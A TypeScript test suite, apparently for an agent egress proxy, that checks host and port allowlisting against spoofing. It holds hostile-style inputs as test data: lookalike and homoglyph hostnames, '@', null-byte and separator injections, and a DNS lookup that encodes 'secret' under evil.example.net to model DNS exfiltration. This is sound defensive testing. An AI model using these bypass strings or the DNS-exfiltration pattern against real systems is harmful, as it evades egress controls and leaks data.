import assert from 'node:assert/strict';
import { after, before, beforeEach, test } from 'node:test';
import { bothForms, connectTo, EgressStage, getUrl } from '../helpers/egress-stage.ts';
import type { Puppet } from '../helpers/puppet.ts';

// Which names and ports a card lets through, and that a refused one leaves no trace outside, not even a question.

let stage: EgressStage;
let puppet: Puppet;
before(async () => {
  stage = await EgressStage.open();
  puppet = await stage.agent({
    allowed_hosts: ['api.example.com', '*.wild.example.com', 'xn--bcher-kva.example.com', 'ports.example.com:8000'],
    denied_hosts: ['secret.wild.example.com'],
  });
});
beforeEach(() => stage.internet.clear());
after(() => stage?.close());

/** Asks for hosts in both forms; each must be refused for this reason and none may show outside. */
async function assertRefused(who: Puppet, hosts: readonly string[], verdict: RegExp): Promise<void> {
  for (const host of hosts) {
    for (const request of bothForms(host)) {
      const [said] = await stage.verdicts(who, [request]);
      assert.match(said ?? '', verdict, JSON.stringify(request));
    }
  }
  assert.deepEqual(await stage.internet.arrivals(), []);
}

/** Asks for hosts in both forms; each must be let through, to this address. */
async function assertAllowed(who: Puppet, hosts: readonly string[], address: string): Promise<void> {
  for (const host of hosts) {
    await stage.internet.clear();
    assert.deepEqual(await stage.verdicts(who, bothForms(host)), ['200', '200'], host);
    assert.deepEqual(await stage.connections(), [`${address} 443`, `${address} 80`], host);
  }
}

test('an allowed host is reached in both forms, and a refusal says what was refused, why, and what to do', async () => {
  await assertAllowed(puppet, ['api.example.com'], '11.0.0.7');
  const [refused = ''] = await puppet.talk([{ send: getUrl('evil.example.net') }, { read: 'answer' }]);
  assert.match(refused, /^HTTP\/1\.1 403 /);
  assert.match(refused, /\r\nproxy-status: /i);
  assert.match(refused, /\r\n\r\nagent-spawn refused evil\.example\.net:80 \(egress\.no-rule\): .*evil\.example\.net/s);
  assert.match(refused, /allowed_hosts/);
});

test('an empty list lets nothing through, and so does none', async () => {
  for (const card of [{ allowed_hosts: [] }, {}]) {
    const closed = await stage.agent(card);
    await assertRefused(closed, ['api.example.com', 'evil.example.net', 'localhost'], /^403 egress\.no-rule$/);
    assert.match((await stage.verdicts(closed, [connectTo('11.0.0.7:443')]))[0] ?? '', /^403 /);
  }
  assert.deepEqual(await stage.internet.arrivals(), []);
});

test('names that only look like an allowed one are refused', async () => {
  const looks = [
    ...['evil-api.example.com', 'api.example.com.evil.example.net', 'apixexample.com', 'notapi.example.com'],
    ...['example.com', 'com', 'a.api.example.com', 'wild.example.com', 'xwild.example.com', 'api-example.com'],
  ];
  for (const name of [...looks, 'a.wild.example.com', 'a.b.wild.example.com', 'secret.wild.example.com']) {
    await stage.internet.answer(name, ['11.0.0.9']);
  }
  await assertRefused(puppet, looks, /^403 egress\.no-rule$/);
  await assertRefused(puppet, ['secret.wild.example.com', 'SECRET.wild.example.com.'], /^403 egress\.denied-host$/);
  await assertAllowed(puppet, ['a.wild.example.com', 'a.b.wild.example.com'], '11.0.0.9');
});

test('capitals and a final dot change nothing, two dots are no name', async () => {
  await assertAllowed(puppet, ['API.Example.COM', 'api.example.com.', 'API.EXAMPLE.com.'], '11.0.0.7');
  const asked = (await stage.internet.arrivals('dns')).map(({ name }) => name);
  assert.deepEqual([...new Set(asked)], ['api.example.com'], 'it is asked for in its plain form');
  await stage.internet.clear();
  await assertRefused(puppet, ['api.example.com..', 'api..example.com', '.api.example.com', '.'], /^400 /);
});

test('only plain ASCII names are names; one in Punycode is no other', async () => {
  const bytes = (name: string): string => Buffer.from(name).toString('latin1');
  const odd = [
    'b\u00fccher.example.com',
    'api\u3002example.com',
    'a\u00adpi.example.com',
    '\u0430pi.example.com',
    '\uff41pi.example.com',
  ];
  await assertRefused(puppet, odd.map(bytes), /^400 /);
  await assertRefused(puppet, ['xn--pi-7lc.example.com'], /^403 egress\.no-rule$/);
  await stage.internet.answer('xn--bcher-kva.example.com', ['11.0.0.9']);
  await assertAllowed(puppet, ['xn--bcher-kva.example.com'], '11.0.0.9');
});

test('names that are longer than names can be, or hold what no name holds, are refused', async () => {
  const long = `${'a'.repeat(63)}.`.repeat(4);
  const odd = [
    ...[
      `${'a'.repeat(64)}.wild.example.com`,
      `${long}wild.example.com`,
      'a_b!.wild.example.com',
      'a%2ewild.example.com',
    ],
    ...[
      'api.example.com%00.wild.example.com',
      'user@api.example.com',
      'api.example.com@evil.example.net',
      '[api.example.com]',
    ],
    ...[
      '*.wild.example.com',
      '-a.wild.example.com\t',
      'api.example.com,evil.example.net',
      'api.example.com\\evil.example.net',
    ],
  ];
  await assertRefused(puppet, odd, /^400 /);
  const fits = `${'a'.repeat(63)}.wild.example.com`;
  await stage.internet.answer(fits, ['11.0.0.9']);
  await assertAllowed(puppet, [fits], '11.0.0.9');
});

test('of the ports only those of the rule are open, without a word in the card 80 and 443', async () => {
  await stage.internet.answer('ports.example.com', ['11.0.0.9']);
  const closed = [22, 25, 6379, 8000, 81, 444].map((port) => connectTo(`api.example.com:${port}`));
  for (const verdict of await stage.verdicts(puppet, closed)) assert.equal(verdict, '403 egress.port');
  for (const verdict of await stage.verdicts(puppet, [connectTo('ports.example.com:443'), getUrl('ports.example.com')]))
    assert.equal(verdict, '403 egress.port');
  const odd = ['0', '65536', '65979', '443x', '0x1bb', '+443', '-1', ' 443', '', '4 43', '00000000443443'];
  for (const port of odd) {
    const [verdict = ''] = await stage.verdicts(puppet, [connectTo(`api.example.com:${port}`)]);
    assert.match(verdict, /^400 /, port);
  }
  assert.deepEqual(await stage.internet.arrivals(), []);
  assert.deepEqual(await stage.verdicts(puppet, [connectTo('ports.example.com:8000')]), ['200']);
  assert.deepEqual(await stage.connections(), ['11.0.0.9 8000']);
});

test('a refused name is asked of nobody: a name carries no secret out', async () => {
  const control = await stage.outside();
  await control.attempt('socket.getaddrinfo("c2VjcmV0.evil.example.net", 80)');
  assert.ok((await stage.internet.arrivals('dns')).some(({ name }) => name === 'c2VjcmV0.evil.example.net'));
  await stage.internet.clear();
  await assertRefused(puppet, ['c2VjcmV0.evil.example.net'], /^403 egress\.no-rule$/);
});
